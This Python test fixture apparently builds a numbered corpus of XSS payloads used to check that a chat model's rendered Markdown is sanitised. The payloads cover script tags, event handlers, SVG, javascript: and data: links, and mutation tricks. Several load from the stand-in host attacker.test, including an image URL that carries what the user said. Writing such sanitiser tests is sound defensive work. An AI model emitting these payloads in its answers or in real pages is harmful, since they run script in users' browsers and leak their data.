"""Hostile text for the XSS tests: each payload, were it ever to run or load, does something
observable (opens a dialog, sets ``window.__xss``, changes the title, or requests
``http://attacker.test/<its number>``)."""

import base64
import re
from dataclasses import dataclass

ATTACKER_HOST = "attacker.test"
"""The foreign origin the payloads load from (it never resolves; the browser test aborts it)."""


@dataclass(frozen=True)
class Payload:
    """One payload: its number (named in what it does), kind, text, and the part of it that
    shows as text once the model's Markdown is rendered."""

    number: int
    kind: str
    text: str
    shown: str


def _expand(template: str, number: int) -> str:
    """The template with its number put in, and ``{base64:...}`` encoded (for data: URLs)."""
    text = template.replace("{n}", str(number))
    return re.sub(r"\{base64:(.*?)\}", lambda m: base64.b64encode(m[1].encode()).decode(), text)


def _corpus(entries: list[tuple]) -> list[Payload]:
    """Numbered payloads from ``(kind, template)`` or ``(kind, template, shown template)``;
    without a shown template the whole text shows."""
    payloads = []
    for number, (kind, template, *shown) in enumerate(entries, start=1):
        text = _expand(template, number)
        payloads.append(Payload(number, kind, text, _expand(shown[0], number) if shown else text))
    return payloads


PAYLOADS = _corpus(
    [
        ("script", "<script>alert({n})</script>"),
        ("script", "<SCRIPT SRC=http://attacker.test/{n}.js></SCRIPT>"),
        ("script", "<script>window.__xss={n}</script>"),
        ("script", "<scr<script>ipt>document.title='XSS {n}'</scr</script>ipt>"),
        ("script", "<script type=module>import('http://attacker.test/{n}.js')</script>"),
        ("event handler", "<img src=x onerror=alert({n})>"),
        ("event handler", '<img src="http://attacker.test/{n}.png" onload="window.__xss={n}">'),
        ("event handler", "<body onload=alert({n})>"),
        ("event handler", "<details open ontoggle=alert({n})>"),
        ("event handler", "<input autofocus onfocus=alert({n})>"),
        ("event handler", '<video><source onerror="window.__xss={n}"></video>'),
        ("event handler", '<a href="#" onclick="alert({n})">click me</a>'),
        ("svg", "<svg onload=alert({n})>"),
        ("svg", "<svg><script>alert({n})</script></svg>"),
        ("svg", "<svg/onload=window.__xss={n}>"),
        ("svg", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>"),
        ("svg", '<svg><a xlink:href="javascript:alert({n})"><text y="20">tap</text></a></svg>'),
        ("svg", '<svg><image href="http://attacker.test/{n}.svg"/></svg>'),
        (
            "svg",
            "Logo: ![logo](data:image/svg+xml;base64,{base64:<svg onload=alert({n})>})",
        ),
        ("link scheme", "[click](javascript:alert({n}))"),
        ("link scheme", "[click](JaVaScRiPt:alert({n}))"),
        ("link scheme", '<a href="javascript:alert({n})">click</a>'),
        ("link scheme", "[click][evil]\n\n[evil]: javascript:alert({n})"),
        ("link scheme", "<javascript:alert({n})>"),
        ("link scheme", "[click](<javascript:alert({n})>)"),
        ("link scheme", "[click](vbscript:msgbox({n}))"),
        (
            "link scheme",
            "[click](data:text/html;base64,{base64:<script>alert({n})</script>})",
        ),
        ("link scheme", '<a href="//attacker.test/{n}">home</a>'),
        (
            "link scheme",
            "[open](data:image/png;base64,{base64:<script>alert({n})</script>})",
            "open",
        ),
        ("markdown image", "Chart: ![chart](http://attacker.test/{n}.png)", "Chart:"),
        ("markdown image", "Chart: ![chart][c]\n\n[c]: http://attacker.test/{n}.png", "Chart:"),
        (
            "markdown image",
            "Chart: ![chart](https://attacker.test/{n}.png?q=what+the+user+said)",
            "Chart:",
        ),
        (
            "markdown image",
            "Chart: [![chart](//attacker.test/{n}.png)](https://example.org)",
            "Chart:",
        ),
        (
            "markdown image",
            "Chart: ![chart](data:image/gif;base64,{base64:<svg onload=alert({n})>})",
            "Chart:",
        ),
        ("markdown image", 'Chart: ![chart](x "a" onerror="alert({n})")'),
        ("embedding", '<iframe src="http://attacker.test/{n}"></iframe>'),
        ("embedding", '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>'),
        ("embedding", '<object data="http://attacker.test/{n}.swf"></object>'),
        ("embedding", '<embed src="http://attacker.test/{n}.swf">'),
        ("embedding", '<meta http-equiv="refresh" content="0;url=http://attacker.test/{n}">'),
        ("embedding", '<base href="http://attacker.test/{n}/">'),
        ("embedding", '<form action="http://attacker.test/{n}"><button>Continue</button></form>'),
        ("embedding", '<form><button formaction="javascript:alert({n})">Send</button></form>'),
        ("embedding", '<link rel=stylesheet href="http://attacker.test/{n}.css">'),
        ("css", "<style>@import 'http://attacker.test/{n}.css';</style>"),
        ("css", '<div style="background:url(http://attacker.test/{n}.png)">styled</div>'),
        ("css", '<p style="width:expression(alert({n}))">old IE</p>'),
        ("encoding", "&lt;script&gt;alert({n})&lt;/script&gt;", "<script>alert({n})</script>"),
        ("encoding", "&#60;img src=x onerror=alert({n})&#62;", "<img src=x onerror=alert({n})>"),
        ("encoding", "<ScRiPt>alert({n})</sCrIpT>"),
        ("encoding", "<IMG SRC=JaVaScRiPt:alert({n})>"),
        (
            "encoding",
            '<a href="&#106;avascript:alert({n})">x</a>',
            '<a href="javascript:alert({n})">x</a>',
        ),
        ("encoding", "[x](&#x6A;avascript:alert({n}))", "[x](javascript:alert({n}))"),
        ("encoding", "%3Cscript%3Ealert({n})%3C/script%3E"),
        ("encoding", "\\<script>alert({n})\\</script>", "<script>alert({n})</script>"),
        ("breakout", '"></title></textarea></script><script>alert({n})</script>'),
        ("breakout", '"><script>alert({n})</script>'),
        ("breakout", "'><img src=x onerror=alert({n})>"),
        ("breakout", "</title><script>alert({n})</script>"),
        ("breakout", "</textarea><script>alert({n})</script>"),
        ("breakout", "</script><script>alert({n})</script>"),
        ("breakout", '" onmouseover="alert({n})" x="'),
        ("breakout", '[x](https://example.org "t\\" onmouseover=\\"alert({n})")', "x"),
        ("code", "`<script>alert({n})</script>`", "<script>alert({n})</script>"),
        (
            "code",
            "```html\n<script>alert({n})</script>\n```",
            "<script>alert({n})</script>",
        ),
        (
            "code",
            "```\n</code></pre><img src=x onerror=alert({n})>\n```",
            "</code></pre><img src=x onerror=alert({n})>",
        ),
        (
            "code",
            "Code:\n\n    <script>alert({n})</script>",
            "<script>alert({n})</script>",
        ),
        ("code", "{{ 7*7 }} {% raw %}<script>alert({n})</script>"),
        ("code", "${alert({n})} {{constructor.constructor('alert({n})')()}}"),
        ("comment", "<!-- --><script>alert({n})</script>"),
        ("comment", '<!--<img src="--><img src=x onerror=alert({n})//">'),
        ("comment", "<!--[if gte IE 4]><script>alert({n})</script><![endif]-->"),
        ("comment", "<![CDATA[<script>alert({n})</script>]]>"),
        ("unicode", "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e"),
        ("unicode", "\u202e<script>alert({n})</script>"),
        ("unicode", "[x](\u200bjavascript:alert({n}))", "x"),
        ("unicode", "[x](javascript&colon;alert({n}))", "[x](javascript:alert({n}))"),
        ("unicode", "[x](java&#9;script:alert({n}))", "x"),
        ("unicode", "<\u017fcript>alert({n})</\u017fcript>"),
        ("mutation", '<noscript><p title="</noscript><img src=x onerror=alert({n})>">'),
        ("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>"),
        ("mutation", '<svg></p><style><a id="</style><img src=1 onerror=alert({n})>">'),
    ]
)
"""The corpus, numbered from 1 in this order."""

KINDS = sorted({payload.kind for payload in PAYLOADS})
